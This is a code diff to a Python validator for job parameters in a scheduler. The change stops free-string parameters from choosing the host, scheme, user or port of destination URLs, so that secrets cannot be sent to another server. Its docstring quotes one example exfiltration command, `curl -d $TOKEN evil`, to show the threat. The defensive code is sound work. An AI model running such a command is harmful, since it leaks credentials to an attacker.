@@ -14,7 +14,9 @@ Rules, chosen so that a parameter can never carry a secret out of a job:
    and, when the config holds a secret, in the keys that decide where it goes (a shell
    command, a URL, a broker): a value chosen at run time must not be able to send a secret
    somewhere else (`curl -d $TOKEN evil` in a command). Parameters reach those through
-   `DKRON_PARAM_<NAME>` instead (shell and docker).
+   `DKRON_PARAM_<NAME>` instead (shell and docker). In a destination key, a free string
+   parameter in a URL's scheme, user, host or port is refused whether or not a secret was
+   recognised (a choice, int or bool there is the job author's own list).
 4. The agent substitutes after it unseals the stored config, into the copy it hands the
    executor only; the stored config, the run's snapshot and every page keep the placeholders.
 """
@@ -258,16 +260,59 @@ def _closed_keys(spec: confidential.Spec, config: Mapping[str, Any]) -> dict[str
     return closed
 
 
+_AUTHORITY = re.compile(r"^\s*(?:[A-Za-z][A-Za-z0-9+.-]*:)?//([^/?#]*)")
+
+
+_ADDRESS_WORDS = ("url", "host", "address", "broker", "server", "endpoint")
+
+
+def _connects(key: str, value: Any, name: str) -> bool:
+    """Whether parameter `name` can choose the server in a destination key's value
+    (`_in_authority`; a bare `{{ params.x }}...` counts only in keys named like an address,
+    not in a command)."""
+    addressy = any(word in key.lower() for word in _ADDRESS_WORDS)
+    for text in _strings(value):
+        if _in_authority(text, name) and (addressy or _AUTHORITY.match(text)):
+            return True
+    return False
+
+
+def _in_authority(text: str, name: str) -> bool:
+    """Whether a placeholder sits where a URL names its host (scheme, user, host, port), or
+    the string is all placeholder before any path: there a run's value would pick the server
+    the job connects to, and with it who receives whatever the request carries. The secret
+    classification cannot see every credential (a token as the URL's user name, a session id
+    in its query, a client certificate), so this holds whether or not the config has one."""
+    first = next((m for m in PLACEHOLDER.finditer(text) if m.group(1) == name), None)
+    if first is None:
+        return False
+    match = _AUTHORITY.match(text)
+    if match is None:  # no scheme://: a URL only if the placeholder starts it
+        return first.start() == len(text) - len(text.lstrip())
+    return first.start() < match.end(1)
+
+
 def config_problems(
     declaration: list[Param], spec: confidential.Spec, config: Mapping[str, Any]
 ) -> dict[str, str]:
     """Save-time findings about a plain executor config's placeholders, by config key."""
-    declared = {p.name for p in declaration}
+    declared = {p.name: p for p in declaration}
     closed = _closed_keys(spec, config)
     problems: dict[str, str] = {}
     for key, name in placeholders(config):
         if name not in declared:
             problems.setdefault(key, f"{{{{ params.{name} }}}} names no declared parameter")
+        elif (
+            declared[name].type == "string"
+            and key in spec.destinations
+            and _connects(key, config[key], name)
+        ):
+            problems.setdefault(
+                key,
+                f"{{{{ params.{name} }}}} is not allowed in the scheme, user, host or port of a "
+                "URL: a free string chosen at run time must not pick the server this job "
+                "connects to (declare it as a choice)",
+            )
         elif key in closed:
             problems.setdefault(
                 key,
